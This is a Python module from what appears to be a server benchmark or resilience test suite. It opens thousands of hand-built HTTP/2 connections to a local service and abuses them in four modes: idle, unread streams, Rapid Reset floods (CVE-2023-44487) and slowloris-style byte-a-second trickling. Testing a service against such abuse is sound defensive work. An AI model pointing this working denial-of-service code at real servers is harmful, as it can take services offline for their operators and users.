"""Clients that mean no good, or do not know better, by the thousand: `python -m bench.abusers` with a `Plan` as JSON on
standard input. It prints a line when all are at it, goes on until standard input ends, and prints a `Tally` as JSON.

They speak HTTP/2 frame by frame (RFC 9113), because no library would do what they do.
"""

from __future__ import annotations

import asyncio
import json
import resource
import struct
import sys
from base64 import b64decode
from collections.abc import Coroutine
from contextlib import suppress
from dataclasses import asdict, dataclass
from typing import Any

from bench.http2 import ACK, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST, SETTINGS, frame, headers

_AT_ONCE = 100  # connections that are being opened
_HEAD = 9
_CANCEL = struct.pack(">I", 8)
_RESETS_IN_A_WRITE = 100
_BYTE_S = 1.0
_LAST_TURNS = 20  # of the loop: what has arrived is read in a few
_LONG = 1 << 20  # bytes that a body promises, and never has
KINDS = ("idle", "unread", "resets", "trickle")


@dataclass(frozen=True)
class Plan:
    """Who does what: so many connections of one of KINDS. `request` (base64) is of the method at `path`."""

    port: int
    kind: str
    connections: int
    path: str = "/"
    request: str = ""
    streams: int = 0  # on each connection


@dataclass
class Tally:
    """What came of it."""

    opened: int = 0
    closed_by_service: int = 0
    resets: int = 0


class _Abuser:
    """One connection, which answers pings, so that the service takes it for alive."""

    def __init__(self, plan: Plan, tally: Tally) -> None:
        self._plan = plan
        self._tally = tally
        message = b64decode(plan.request)
        self.is_at_it = asyncio.Event()  # the service has answered to the first words
        self._block = headers("localhost", plan.path)
        self._body = b"\x00" + len(message).to_bytes(4, "big") + message

    async def open(self) -> None:
        self._reader, self._writer = await asyncio.open_connection("127.0.0.1", self._plan.port)
        self._tally.opened += 1

    async def live(self) -> None:
        """Until the service ends it."""
        try:
            async with asyncio.TaskGroup() as both:
                doing = both.create_task(self._do())
                await asyncio.sleep(0)  # what it begins with comes before any answer
                await self._listen()
                doing.cancel()
        except* OSError:
            pass
        self._tally.closed_by_service += 1

    async def _listen(self) -> None:
        while True:
            try:
                head = await self._reader.readexactly(_HEAD)
                body = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
            except asyncio.IncompleteReadError:
                return
            self.is_at_it.set()
            if head[3] in (PING, SETTINGS) and not head[4] & ACK and self._plan.kind != "trickle":
                self._writer.write(frame(head[3], ACK, 0, body if head[3] == PING else b""))

    async def _do(self) -> None:
        match self._plan.kind:
            case "idle":
                self._writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
            case "unread":
                self._writer.write(PREFACE + frame(SETTINGS, 0, 0, b"") + self._calls(self._plan.streams))
            case "resets":
                await self._reset()
            case "trickle":
                await self._trickle()

    def _calls(self, count: int, first: int = 1) -> bytes:
        """Calls whose answers nobody will take: the window is never opened."""
        return b"".join(
            frame(HEADERS, END_HEADERS, first + 2 * n, self._block) + frame(DATA, END_STREAM, first + 2 * n, self._body)
            for n in range(count)
        )

    async def _reset(self) -> None:
        """Calls that are taken back as soon as they are made (CVE-2023-44487), as fast as they are taken."""
        self._writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
        stream = 1
        while True:
            parts = []
            for _ in range(_RESETS_IN_A_WRITE):
                parts.append(frame(HEADERS, END_HEADERS, stream, self._block) + frame(RST, 0, stream, _CANCEL))
                stream += 2
            self._writer.write(b"".join(parts))
            await self._writer.drain()
            await asyncio.sleep(0)
            self._tally.resets += _RESETS_IN_A_WRITE

    async def _trickle(self) -> None:
        """A third begins to speak HTTP/2, a third begins a call, a third begins a body: a byte a second."""
        begun = self._tally.opened % 3
        call = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, self._block)
        body = b"\x00" + _LONG.to_bytes(4, "big") + bytes(1000)
        bytes_ = call + b"".join(frame(DATA, 0, 1, body[n : n + 1]) for n in range(len(body)))
        at = (0, len(PREFACE) + _HEAD, len(call))[begun]
        self._writer.write(bytes_[:at])
        for n in range(at, len(bytes_)):
            self._writer.write(bytes_[n : n + 1])
            await asyncio.sleep(_BYTE_S)


async def _run(plan: Plan) -> Tally:
    tally = Tally()
    gate = asyncio.Semaphore(_AT_ONCE)
    abusers = [_Abuser(plan, tally) for _ in range(plan.connections)]

    async def opened(abuser: _Abuser) -> None:
        async with gate:
            with suppress(OSError):
                await abuser.open()

    async with asyncio.TaskGroup() as opening:
        for abuser in abusers:
            opening.create_task(opened(abuser))
    there = [abuser for abuser in abusers if hasattr(abuser, "_writer")]
    living = [asyncio.create_task(abuser.live()) for abuser in there]
    async with asyncio.TaskGroup() as beginning:
        for abuser in there:
            beginning.create_task(abuser.is_at_it.wait())
    print("at it", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    for _ in range(_LAST_TURNS):  # a process that stood still has not seen yet what the service has closed by now
        await asyncio.sleep(0)
    told = Tally(**asdict(tally))
    for task in living:
        task.cancel()
    await asyncio.gather(*living, return_exceptions=True)
    return told


def main() -> None:
    """The child."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    plan = Plan(**json.loads(sys.stdin.readline()))
    work: Coroutine[Any, Any, Tally] = _run(plan)
    print(json.dumps(asdict(asyncio.run(work))), flush=True)


if __name__ == "__main__":
    main()
